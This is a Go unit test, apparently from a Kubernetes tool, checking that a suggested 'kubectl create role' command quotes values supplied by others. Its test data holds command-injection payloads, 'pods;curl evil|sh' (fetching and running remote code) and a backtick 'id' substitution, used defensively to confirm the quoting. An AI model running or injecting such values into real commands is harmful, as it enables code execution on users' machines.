package main

import (
	"strings"
	"testing"
)

// TestSuggestedCommandsAreQuoted: what others wrote is one word of a command that a
// person copies.
func TestSuggestedCommandsAreQuoted(t *testing.T) {
	r := right{Resource: "pods;curl evil|sh", Namespace: "a`id`", namespaced: true}
	const want = "\"kubectl create role NAME -n 'a`id`' --verb=list,watch '--resource=pods;curl evil|sh'\""
	if got := r.remedy(); !strings.Contains(got, want) {
		t.Errorf("got %s, want %s", got, want)
	}
}
